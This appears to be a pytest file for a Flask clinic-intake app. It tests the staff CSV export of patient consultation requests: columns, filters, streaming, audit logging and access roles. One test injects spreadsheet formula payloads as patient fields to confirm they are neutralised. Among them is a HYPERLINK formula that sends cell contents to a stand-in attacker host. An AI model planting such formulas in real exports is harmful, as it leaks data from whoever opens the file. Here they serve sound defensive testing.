"""CSV export of the filtered queue: columns, values, filters, formula neutralising, streaming, audit, access."""

from __future__ import annotations

import csv
import io
import re
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select, text

from app.exports.csv_lines import neutralise
from app.exports.rows import FETCH_BATCH, FLUSH_ROWS
from app.extensions import db
from app.models import AuditEvent, ConsultationRequest, Screening, utcnow
from app.screening.questions import QUESTIONS, Kind
from app.security.search_index import request_indexes
from tests.answers import answers_with
from tests.conftest import database_url, raw_connection
from tests.factories import login, make_staff, patient_request, staff_token

POSSIBLE = answers_with(had_mri="no", mri_findings=None)
UNLIKELY = answers_with(main_pain="back", leg_symptoms="none")


def signed_in(app: Flask, role: str = "frontdesk") -> tuple[FlaskClient, dict[str, Any]]:
    """A staff browser, signed in through the login form."""
    account = make_staff(app, role)
    client = app.test_client()
    login(client, account)
    return client, account


def download(client: FlaskClient, query: str = "") -> tuple[list[str], list[dict[str, str]]]:
    """The export's header and rows, read the way a spreadsheet would (UTF-8 with its BOM)."""
    response = client.get(f"/staff/requests.csv{query}")
    assert response.status_code == 200, response.text
    text = response.data.decode("utf-8")
    assert text.startswith("\ufeff")
    reader = csv.reader(io.StringIO(text[1:], newline=""))
    header = next(reader)
    return header, [dict(zip(header, row, strict=True)) for row in reader]


def search_id(client: FlaskClient, text: str) -> str:
    """Search through the queue's form (a POST); return the id the text is kept under (the URL carries that)."""
    token = staff_token(client, "/staff/requests")
    location = client.post("/staff/requests", data={"csrf_token": token, "q": text}).headers["Location"]
    match = re.fullmatch(r"/staff/requests\?search=([\w-]+)", location)
    assert match, location
    return match.group(1)


def stored(app: Flask, reference: str) -> tuple[ConsultationRequest, Screening]:
    with app.app_context():
        request = db.session.scalars(
            select(ConsultationRequest).where(ConsultationRequest.reference == reference)).one()
        db.session.expunge(request)
        screening = db.session.get(Screening, request.screening_id)
        db.session.expunge(screening)
        return request, screening


def test_header_has_code_and_label_columns_for_every_question_in_order(app: Flask) -> None:
    client, _ = signed_in(app)
    header, rows = download(client)
    assert rows == []
    expected = [name for q in QUESTIONS for name in (q.field, f"{q.field}_label")]
    start = header.index(QUESTIONS[0].field)
    assert header[start:start + len(expected)] == expected
    assert header[:5] == ["reference", "status", "outcome", "category", "score"]
    for name in ("created_at", "created_at_local", "updated_at", "scheduled_for", "assignee", "duplicate_of",
                 "first_name", "last_name", "date_of_birth", "phone", "email", "message", "consent_contact",
                 "preferred_contact_label", "best_time_label", "preferred_language_label", "insurance_label"):
        assert name in header
    assert header[-3:] == ["reasons", "unmet", "cautions"]
    assert len(header) == len(set(header))


def test_one_row_per_request_with_the_stored_values(app: Flask) -> None:
    first = patient_request(app)
    second = patient_request(app, POSSIBLE)  # same phone within 30 days: flagged as a possible duplicate
    client, _ = signed_in(app)
    _, rows = download(client, "?status=all")
    assert sorted(row["reference"] for row in rows) == sorted([first, second])
    row = next(row for row in rows if row["reference"] == first)
    request, screening = stored(app, first)

    assert row["status"] == "new" and row["outcome"] == ""
    assert row["category"] == screening.category == "likely"
    assert (row["score"], row["cook_score"], row["rule_version"]) == (
        str(request.score), str(screening.cook_score), screening.rule_version)
    assert row["created_at"] == request.created_at.isoformat(timespec="seconds")
    assert row["created_at"].endswith("+00:00")
    local = request.created_at.astimezone(ZoneInfo("America/Los_Angeles")).isoformat(timespec="seconds")
    assert row["created_at_local"] == local
    assert row["scheduled_for"] == "" and row["assignee"] == ""
    assert (row["first_name"], row["last_name"], row["date_of_birth"]) == ("Ana", "García", "1954-04-03")
    assert row["phone"] == "'+14155550199"  # E.164 starts with '+': kept as text, never run as a formula
    assert row["email"] == ""
    assert (row["preferred_language"], row["preferred_language_label"]) == ("es", "Spanish (Español)")
    assert (row["insurance"], row["insurance_label"]) == ("medicare", "Medicare")
    assert (row["best_time"], row["best_time_label"]) == ("morning", "Morning")
    assert row["message"] == "Please call after 10." and row["consent_contact"] == "yes"

    for question in QUESTIONS:  # every answer, as code and as the words the patient chose
        value = screening.answers.get(question.field)
        if value is None:  # a conditional question that did not apply: blank cells
            assert row[question.field] == row[f"{question.field}_label"] == ""
            continue
        if question.kind is Kind.MULTI:
            assert row[question.field] == ";".join(value)
            assert row[f"{question.field}_label"] == "; ".join(question.label_for(c) for c in value)
        elif question.kind is Kind.INTEGER:
            assert row[question.field] == row[f"{question.field}_label"] == str(value)
        else:
            assert row[question.field] == value
            assert row[f"{question.field}_label"] == question.label_for(value)
    assert row["mri_findings"] == "stenosis;thick_ligament"
    assert row["mri_findings_label"] == "Narrowing of the spinal canal; A thick or enlarged ligament"
    assert row["reasons"] == ";".join(screening.assessment["reasons"]) != ""
    assert row["unmet"] == ";".join(screening.assessment["unmet"])
    assert row["cautions"] == ";".join(screening.assessment["cautions"])

    later = next(row for row in rows if row["reference"] == second)
    assert later["duplicate_of"] == first
    assert later["mri_findings"] == later["mri_findings_label"] == ""  # not asked: blank, not "None"
    assert later["had_mri_label"] == "No"


def test_category_and_status_filters_are_honoured_and_the_page_cursor_ignored(app: Flask) -> None:
    likely = patient_request(app, phone="(415) 555-0101")
    possible = patient_request(app, POSSIBLE, phone="(415) 555-0102")
    unlikely = patient_request(app, UNLIKELY, phone="(415) 555-0103")
    with app.app_context():
        closed = db.session.scalars(select(ConsultationRequest).where(ConsultationRequest.reference == unlikely)).one()
        closed.status, closed.is_open, closed.outcome = "closed", False, "not_a_candidate"
        db.session.commit()
    client, _ = signed_in(app)

    assert [r["reference"] for r in download(client, "?category=possible")[1]] == [possible]
    assert {r["reference"] for r in download(client)[1]} == {likely, possible}  # open, like the queue
    closed_rows = download(client, "?status=closed")[1]
    assert [(r["reference"], r["status"], r["outcome"]) for r in closed_rows] == [
        (unlikely, "closed", "not_a_candidate")]
    assert len(download(client, "?status=all&after=1.1.1")[1]) == 3  # every match, not one page
    assert [r["reference"] for r in download(client, f"?search={search_id(client, '415-555-0101')}")[1]] == [likely]


@pytest.mark.parametrize("query", ["?q=415-555-0101", "?search=made-up", "?status=all&q=García"])
def test_search_text_in_the_url_or_an_unknown_search_exports_nothing(app: Flask, query: str) -> None:
    patient_request(app, phone="(415) 555-0101")
    client, _ = signed_in(app)
    response = client.get(f"/staff/requests.csv{query}")
    assert response.status_code == 303  # rather than every request, as if there had been no search
    assert "q=" not in response.headers["Location"] and "García" not in response.headers["Location"]
    with app.app_context():
        assert db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export")).all() == []


def test_the_queue_links_its_export_to_the_same_search(app: Flask) -> None:
    wanted = patient_request(app, last_name="Okonkwo")
    patient_request(app, last_name="Brennan")
    client, _ = signed_in(app)
    found = search_id(client, "okonkwo")
    page = client.get(f"/staff/requests?search={found}").text
    link = re.search(r'href="(/staff/requests\.csv[^"]*)"', page)
    assert link and link.group(1) == f"/staff/requests.csv?search={found}"
    assert [r["reference"] for r in download(client, f"?search={found}")[1]] == [wanted]


def test_an_unusable_filter_exports_nothing(app: Flask) -> None:
    patient_request(app)
    client, _ = signed_in(app)
    response = client.get("/staff/requests.csv?category=bogus&status=all")
    assert response.status_code == 303
    assert response.headers["Location"].startswith("/staff/requests?")
    with app.app_context():
        assert db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export")).all() == []


def test_formula_prefixes_in_patient_text_are_neutralised(app: Flask) -> None:
    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    reference = patient_request(app, first_name="@SUM(A1:A9)", last_name=hyperlink, message="+1 call me",
                                email="-x@example.com")
    client, _ = signed_in(app)
    row = download(client)[1][0]
    assert row["reference"] == reference
    assert row["last_name"] == "'" + hyperlink
    assert row["first_name"] == "'@SUM(A1:A9)"
    assert row["message"] == "'+1 call me"
    assert row["email"] == "'-x@example.com"
    formula = re.compile(r"^[=+\-@\t\r]")
    assert not [name for name, value in row.items() if formula.match(value)]


@pytest.mark.parametrize(
    ("text", "written"),
    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-2", "'-2"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
     ("O'Brien", "O'Brien"), ("a=b", "a=b"), ("", "")],
)
def test_neutralise(text: str, written: str) -> None:
    assert neutralise(text) == written


def test_export_is_a_dated_no_store_csv_attachment(app: Flask) -> None:
    client, _ = signed_in(app)
    response = client.get("/staff/requests.csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="mild-requests-\d{4}-\d\d-\d\d-\d{4}\.csv"',
                        response.headers["Content-Disposition"])
    assert response.headers["Cache-Control"] == "no-store"
    response.close()


def _bulk_requests(app: Flask, count: int) -> list[str]:
    """``count`` stored requests, inserted directly (the public flow is too slow for a thousand); their
    references in queue order. All share one timestamp, so the order past the category is the id alone."""
    answers = answers_with()
    now = utcnow()
    with app.app_context():
        for number in range(count):
            rank = 1 + number % 2
            screening = Screening(answers=answers, assessment={"reasons": ["C1"], "unmet": [], "cautions": []},
                                  category="likely", score=6, cook_score=5, rule_version="2026.1", created_at=now)
            db.session.add(ConsultationRequest(
                reference=f"T{number:06d}", screening=screening, category=("likely", "possible")[rank - 1],
                category_rank=rank, score=6, first_name="Pat", last_name="Lee", date_of_birth=now.date(),
                phone=f"+1415555{number:04d}", **request_indexes(phone=f"+1415555{number:04d}", email=None,
                                                                last_name="Lee"), preferred_contact="phone",
                best_time="any", preferred_language="en", insurance="medicare", consent_contact=True,
                created_at=now, updated_at=now))
        db.session.commit()
    return [f"T{n:06d}" for n in range(0, count, 2)] + [f"T{n:06d}" for n in range(1, count, 2)]


def test_export_is_streamed_in_batches_without_blocking_writers(app: Flask) -> None:
    references = _bulk_requests(app, FETCH_BATCH + 1)  # crosses a batch boundary
    client, _ = signed_in(app)
    response = client.get("/staff/requests.csv")
    assert response.is_streamed
    chunks = iter(response.response)  # as the server hands them over, one at a time
    received = [next(chunks), next(chunks)]
    # Mid-download, another connection can still write: no database lock is held between chunks.
    with raw_connection(database_url(app), lock_wait=0.5) as other:
        other.execute(text("UPDATE consultation_request SET message = 'changed' WHERE reference = 'T000000'"))
    received.extend(chunks)
    response.close()
    # The header goes out on its own before any row is read, then rows in fixed batches: the body is
    # never built whole in memory.
    assert received[0].decode("utf-8-sig").startswith("reference,status,") and received[0].count(b"\r\n") == 1
    counts = [chunk.count(b"\r\n") for chunk in received[1:]]
    assert set(counts[:-1]) == {FLUSH_ROWS} and sum(counts) == FETCH_BATCH + 1
    rows = list(csv.DictReader(io.StringIO(b"".join(received).decode("utf-8-sig"), newline="")))
    assert [row["reference"] for row in rows] == references  # queue order, each once, across batches



def test_each_export_is_audited_once_without_the_search_text(app: Flask) -> None:
    patient_request(app)
    client, account = signed_in(app)
    download(client, f"?category=likely&search={search_id(client, 'García')}&from=2026-01-01&after=1.1.1")
    with app.app_context():
        events = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export")).all()
        assert len(events) == 1
        event = events[0]
        assert (event.staff_id, event.ip, event.target_type) == (account["id"], "127.0.0.1", None)
        assert event.detail == {"status": "open", "view": "", "category": "likely", "assignee": "",
                                "from": "2026-01-01", "to": "", "searched": True}
        assert "García" not in str(event.detail)


def test_the_audit_row_is_committed_before_the_first_byte(app: Flask) -> None:
    client, _ = signed_in(app)
    response = client.get("/staff/requests.csv")
    with app.app_context():  # nothing of the body has been read yet
        assert db.session.scalars(select(AuditEvent.action).where(AuditEvent.action == "export")).all() == ["export"]
    response.close()


@pytest.mark.parametrize(("role", "status"), [("admin", 200), ("frontdesk", 200), ("clinician", 403)])
def test_export_is_for_admin_and_frontdesk_only(app: Flask, role: str, status: int) -> None:
    client, _ = signed_in(app, role)
    response = client.get("/staff/requests.csv")
    assert response.status_code == status
    response.close()
    if status == 403:
        with app.app_context():
            assert db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export")).all() == []


def test_signed_out_export_goes_to_sign_in(client: FlaskClient) -> None:
    response = client.get("/staff/requests.csv?category=likely")
    assert response.status_code == 302
    assert response.headers["Location"].startswith("/staff/login?next=")
